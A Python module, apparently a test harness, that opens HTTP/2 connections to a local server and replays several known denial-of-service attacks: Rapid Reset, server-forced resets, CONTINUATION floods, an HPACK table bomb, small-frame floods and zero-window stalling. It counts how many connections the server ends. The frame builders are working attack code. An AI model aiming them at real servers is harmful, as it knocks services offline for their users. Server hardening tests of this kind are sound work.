"""Clients that abuse HTTP/2, in a process of their own: each kind on one connection after the other, for as long as told."""
import multiprocessing
import os
import socket
import struct
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RESET, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS = 1, 4


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    """A field that is neither indexed nor compressed (RFC 7541 §6.2.2); both shorter than 127 bytes."""
    return bytes([0, len(name)]) + name + bytes([len(value)]) + value


REQUEST = b"".join(literal(*field) for field in [
    (b":method", b"GET"), (b":scheme", b"http"), (b":path", b"/f/big.bin"), (b":authority", b"localhost")])


def request(stream, flags=END_STREAM | END_HEADERS):
    return frame(HEADERS, flags, stream, REQUEST)


def reset_at_once(number):
    """HEADERS and RST_STREAM (CVE-2023-44487): 100 requests a piece."""
    streams = range(200 * number + 1, 200 * number + 200, 2)
    return b"".join(request(stream) + frame(RESET, 0, stream, struct.pack(">I", 8)) for stream in streams)


def made_to_reset(number):
    """Requests whose windows then overflow or stand still, so that the server has to reset them (CVE-2025-8671)."""
    streams = range(200 * number + 1, 200 * number + 200, 2)
    return b"".join(request(stream) + frame(WINDOW_UPDATE, 0, stream, bytes(4)) for stream in streams)


def endless_head(number):
    """CONTINUATION without an end (CVE-2024-27316)."""
    start = frame(HEADERS, 0, 1, REQUEST) if number == 0 else b""
    return start + 20 * frame(CONTINUATION, 0, 1, 8 * literal(b"x-filler", b"a" * 100))


def table_bomb(number):
    """A large entry of the header table, and thousands of references to it, a byte each."""
    block = REQUEST + b"\x40\x01x\x7e" + b"a" * 126 if number == 0 else REQUEST
    return frame(HEADERS, END_STREAM | END_HEADERS, 2 * number + 1, block + b"\xbe" * 16_000)


def small_frames(kind, flags=0, stream=0, payload=b""):
    frames = 500 * frame(kind, flags, stream, payload)
    return lambda number: (request(1, END_HEADERS) if number == 0 else b"") + frames


#: Name, and what to send as the piece of that number. Windows are shut where the answer would give frames back.
KINDS = {
    "HEADERS and RST": reset_at_once,
    "resets by the server": made_to_reset,
    "CONTINUATION": endless_head,
    "HPACK": table_bomb,
    "SETTINGS": small_frames(SETTINGS),
    "PING": small_frames(PING, payload=bytes(8)),
    "empty DATA": small_frames(DATA, stream=1),
    "PRIORITY": small_frames(PRIORITY, stream=3, payload=bytes(4) + b"\1"),
    "WINDOW_UPDATE": small_frames(WINDOW_UPDATE, payload=b"\0\0\0\1"),
    "shut windows": lambda number: b"".join(request(2 * n + 1) for n in range(100)) if number == 0 else None,
}


class Abuser(threading.Thread):
    """One kind, again on a new connection whenever the server has ended one. `counts`: connections, those that were ended."""

    def __init__(self, port, make, until, counts):
        super().__init__(daemon=True)
        self.port, self.make, self.until, self.counts = port, make, until, counts

    def run(self):
        while time.monotonic() < self.until:
            try:
                self.attack()
            except OSError:
                self.counts[1] += 1

    def attack(self):
        with socket.create_connection(("127.0.0.1", self.port), 5) as client:
            self.counts[0] += 1
            # A window of nothing: answers stay where they are.
            client.sendall(PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0)))
            number = 0
            client.settimeout(0.001)
            while time.monotonic() < self.until:
                piece = self.make(number)
                number += 1
                if piece:
                    client.settimeout(5)
                    client.sendall(piece)
                    client.settimeout(0.001)
                try:
                    if not client.recv(1 << 16):
                        self.counts[1] += 1
                        return
                except TimeoutError:
                    if piece is None:
                        time.sleep(0.05)


def run(port, seconds, results):
    os.nice(10)
    until = time.monotonic() + seconds
    counts = {name: [0, 0] for name in KINDS}
    threads = [Abuser(port, make, until, counts[name]) for name, make in KINDS.items()]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(seconds + 10)
    results.put(counts)


class Abuse:
    """All kinds at once, beside whatever else happens."""

    def __init__(self, port, seconds):
        self.results = multiprocessing.Queue()
        self.process = multiprocessing.Process(target=run, args=(port, seconds, self.results), daemon=True)
        self.process.start()

    def counts(self):
        """By kind: connections, and how many of them the server has ended."""
        found = self.results.get(timeout=30)
        self.process.join(10)
        return found
